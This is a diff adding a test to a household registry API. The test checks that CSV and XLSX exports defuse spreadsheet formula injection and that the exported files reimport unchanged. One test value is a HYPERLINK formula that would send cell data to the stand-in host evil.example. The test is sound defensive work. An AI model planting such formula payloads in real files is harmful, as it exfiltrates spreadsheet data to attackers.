@@ -97,3 +97,47 @@ async def test_households_entered_through_the_api_export_and_reimport_unchanged(
         registry, job_ctx, Role.county_officer, XINGYI, "x.csv", exported.content
     )
     assert (result["rows_read"], result["unchanged"], result["accepted"]) == (3, 3, 0)
+
+
+async def test_text_that_would_run_as_a_formula_is_exported_as_text_and_reimports_unchanged(
+    registry, job_ctx, villages
+) -> None:
+    from tests.conftest import VILLAGE_A
+    from tests.registry.helpers import household, member
+
+    address = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+    officer = registry.as_(Role.county_officer, XINGYI)
+    body = household(
+        VILLAGE_A,
+        "@FORMULA-1",
+        [member("head", name="-王小明"), member("child", name="+李小红", education="=1+1")],
+        address=address,
+        poverty_causes=["-因病"],
+    )
+    created = await officer.post("/v1/households", json=body)
+    assert created.status_code == 201, created.text
+    household_id = created.json()["id"]
+
+    exported = await officer.get("/v1/exports/households", params={"format": "csv"})
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + address in cells
+    assert "'-王小明" in cells
+    assert "'@FORMULA-1" in cells
+
+    book = await officer.get("/v1/exports/households", params={"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(book.content)).active
+    values = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert not [c.coordinate for c in values if c.data_type == "f"]  # no live formula
+    assert "'" + address in [c.value for c in values]
+
+    for name, content in (("x.csv", exported.content), ("x.xlsx", book.content)):
+        result = await _reimport(registry, job_ctx, Role.county_officer, XINGYI, name, content)
+        assert (result["rows_read"], result["unchanged"], result["rejected"]) == (2, 2, 0), result
+    again = (await officer.get(f"/v1/households/{household_id}")).json()
+    assert again["address"] == address
+    assert again["household_no"] == "@FORMULA-1"
+    assert again["poverty_causes"] == ["-因病"]
+    assert [m["name"] for m in again["members"]] == ["-王小明", "+李小红"]
+    assert again["members"][1]["education"] == "=1+1"
